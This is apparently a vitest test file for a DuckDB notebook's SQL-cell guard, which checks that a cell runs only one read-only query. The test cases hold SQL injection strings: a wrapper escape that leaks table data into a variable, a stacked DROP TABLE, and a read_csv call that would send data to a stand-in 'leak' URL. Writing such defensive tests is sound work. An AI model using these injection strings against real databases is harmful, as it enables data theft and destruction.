import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createNodeEngine } from '../../src/lib/engine/duckdb-node';
import { QueryError, type Engine } from '../../src/lib/engine/engine';
import { explainFailure, ONE_QUERY, QueryRefused, storeQuery } from '../../src/lib/sql/one-query';

let engine: Engine;
beforeAll(async () => {
  engine = await createNodeEngine();
  await engine.query(
    "CREATE TABLE people AS SELECT * FROM (VALUES ('Ada Lovelace', 'north'), ('Alan Turing', 'south')) t(name, region)",
  );
});
afterAll(async () => {
  await engine.close();
});

const rows = async (sql: string) =>
  (await engine.query(sql)).toArray().map((r) => r.toJSON() as Record<string, unknown>);

/** Runs a cell's text as the cell `result`; returns its rows, or the message it was refused with. */
async function run(text: string): Promise<Record<string, unknown>[] | string> {
  try {
    await storeQuery(engine, 'result', text);
    return await rows('SELECT * FROM result');
  } catch (e) {
    return e instanceof QueryRefused ? `refused: ${e.message}` : `error: ${(e as Error).message}`;
  }
}

/** What the attacks would have changed: the table and the session variable. */
async function expectUntouched() {
  expect(await rows('SELECT count(*)::DOUBLE AS n FROM people')).toEqual([{ n: 2 }]);
  expect(await rows("SELECT getvariable('leak') AS leak")).toEqual([{ leak: null }]);
}

describe('storeQuery runs one query', () => {
  it.each([
    ['SELECT', "SELECT name FROM people WHERE region = 'north'", [{ name: 'Ada Lovelace' }]],
    ['a trailing semicolon', 'SELECT 1 AS x;', [{ x: 1 }]],
    ['a trailing comment', 'SELECT 1 AS x -- the end', [{ x: 1 }]],
    ['WITH', 'WITH a AS (SELECT 2 AS x) SELECT x FROM a', [{ x: 2 }]],
    ['VALUES', 'VALUES (1), (2)', [{ col0: 1 }, { col0: 2 }]],
    ['FROM-first', "FROM people SELECT region WHERE name = 'Alan Turing'", [{ region: 'south' }]],
    [
      'a set operation in parentheses',
      '(SELECT 1 AS x) UNION ALL (SELECT 2)',
      [{ x: 1 }, { x: 2 }],
    ],
    [
      'PIVOT with an IN list',
      "PIVOT people ON region IN ('north') USING count(*) GROUP BY name ORDER BY name",
      [
        { name: 'Ada Lovelace', north: 1 },
        { name: 'Alan Turing', north: 0 },
      ],
    ],
  ])('accepts %s', async (_, text, expected) => {
    expect(await run(text)).toEqual(expected);
  });

  it('accepts DESCRIBE and SUMMARIZE, which DuckDB reads as a subquery', async () => {
    const described = await run('DESCRIBE people');
    expect((described as Record<string, unknown>[]).map((r) => r.column_name)).toEqual([
      'name',
      'region',
    ]);
    const summary = await run('-- what is in it\nSUMMARIZE people');
    expect((summary as Record<string, unknown>[]).map((r) => r.count)).toEqual([2, 2]);
  });

  it('refuses the link that escaped the wrapper to set a variable (issue 15)', async () => {
    const attack =
      "SELECT 1 AS x); SET VARIABLE leak = (SELECT string_agg(name, '|') FROM (SELECT name FROM people LIMIT 5)); SELECT (1";
    expect(await run(attack)).toBe(
      `refused: ${ONE_QUERY}; DuckDB cannot read it: syntax error at or near ")" (line 1 of the cell).`,
    );
    await expectUntouched();
  });

  it('refuses a second statement after the query', async () => {
    expect(await run('SELECT 1; DROP TABLE people')).toBe(
      `refused: ${ONE_QUERY}; this cell has more than one statement. Keep one query, and put any other query in a cell of its own.`,
    );
    await expectUntouched();
  });

  it.each([
    ['DROP TABLE people', 'a DROP'],
    ['SET VARIABLE leak = 1', 'a SET'],
    ["COPY people TO 'people.csv'", 'a COPY'],
    ["ATTACH ':memory:' AS other", 'an ATTACH'],
    ['INSTALL httpfs', 'an INSTALL'],
    ['LOAD httpfs', 'a LOAD'],
    ["  /* hi */ CREATE TABLE other AS SELECT 'x'", 'a CREATE'],
    ["WITH a AS (SELECT 'x', 'y') INSERT INTO people SELECT * FROM a", 'an INSERT'],
  ])('refuses %s, naming the statement', async (text, statement) => {
    expect(await run(text)).toBe(
      `refused: ${ONE_QUERY}; this cell has ${statement} statement, which a SQL cell does not run.`,
    );
    await expectUntouched();
  });

  it('refuses query() of a statement inside a SELECT', async () => {
    expect(await run("SELECT * FROM query('DROP TABLE people')")).toBe(
      `refused: ${ONE_QUERY}; DuckDB cannot read it: Expected a single SELECT statement (line 1 of the cell).`,
    );
    await expectUntouched();
  });

  it('says how to write a PIVOT that DuckDB would run as two statements', async () => {
    expect(await run('PIVOT people ON region USING count(*)')).toMatch(
      /^refused: .*DuckDB runs a PIVOT without an IN list as two statements\. List the values/,
    );
  });

  it('says in plain words that a query cannot read the network or the disk', async () => {
    expect(await run("SELECT * FROM read_csv('http://example.com/leak?d=' || 'x')")).toBe(
      'refused: Cannot access file "http://example.com/leak?d=x": a notebook reads only the files you loaded, by their table names, and nothing from the network or your disk.',
    );
  });

  it('says a reader of an extension the wasm build lacks is not there (read_parquet of a URL)', () => {
    // DuckDB-WASM's words (only core_functions is built in); native DuckDB has Parquet built in.
    const wasm = new QueryError(
      'CREATE OR REPLACE TABLE "x" AS\nSELECT * FROM read_parquet(\'https://example.com/x.parquet\')',
      new Error(
        'Catalog Error: Table Function with name read_parquet is not in the catalog, but it exists in the parquet extension.\n\nPlease try installing and loading the parquet extension:\nINSTALL parquet;\nLOAD parquet;\n',
      ),
    );
    const explained = explainFailure(
      wasm,
      "SELECT * FROM read_parquet('https://example.com/x.parquet')",
    );
    expect(explained).toBeInstanceOf(QueryRefused);
    expect(explained.message).toBe(
      "read_parquet is part of DuckDB's parquet extension, which Slicebook does not load: query the loaded tables by their names instead.",
    );
  });

  it("reports DuckDB's own error on the cell's line, without the statement around it", async () => {
    expect(await run('SELECT name,\n  age\nFROM people')).toBe(
      'error: Referenced column "age" not found in FROM clause! Candidate bindings: "name", "region" (line 2 of the cell)',
    );
  });
});
